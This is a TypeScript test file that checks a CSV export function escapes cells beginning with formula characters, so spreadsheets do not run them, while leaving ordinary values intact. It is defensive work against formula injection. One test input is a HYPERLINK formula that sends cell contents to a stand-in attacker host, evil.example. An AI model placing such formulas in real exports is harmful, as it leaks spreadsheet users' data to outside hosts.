import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { toCsv } from "@/lib/format/csv";

// The CSV export's cells as a spreadsheet reads them: nothing that starts like a formula stays
// live, a line break inside the cell included, and ordinary values are left as they are.

/** The cells as a spreadsheet would get them back (quotes removed, one row per record). */
const parsed = (csv: string) => Papa.parse<string[]>(csv).data;

describe("toCsv", () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?d="&A1,\nclick)', "one line break"],
    ["=1+1\r\n=2+2", "CRLF"],
    ["+SUM(A1:A9)\nmore", "plus"],
    ["-2+3\n", "minus"],
    ["@SUM(A1)\n\nx", "at"],
    ["\tcmd\nx", "tab"],
    ["\r=cmd", "carriage return"],
    ["=plain", "single line"],
  ])("escapes a cell that starts like a formula (%j, %s)", (value) => {
    const [header, row] = parsed(toCsv(["name", value], [[value, "ok"]]));
    expect(row).toEqual([`'${value}`, "ok"]);
    expect(header).toEqual(["name", `'${value}`]);
  });

  it("leaves other cells as they are, line breaks, quotes and commas kept", () => {
    const values = ["hello", "a,b", 'say "hi"', "two\nlines", "1=1", " =later", ""];
    const [, row] = parsed(
      toCsv(
        values.map((_, i) => `c${i}`),
        [values],
      ),
    );
    expect(row).toEqual(values);
  });
});
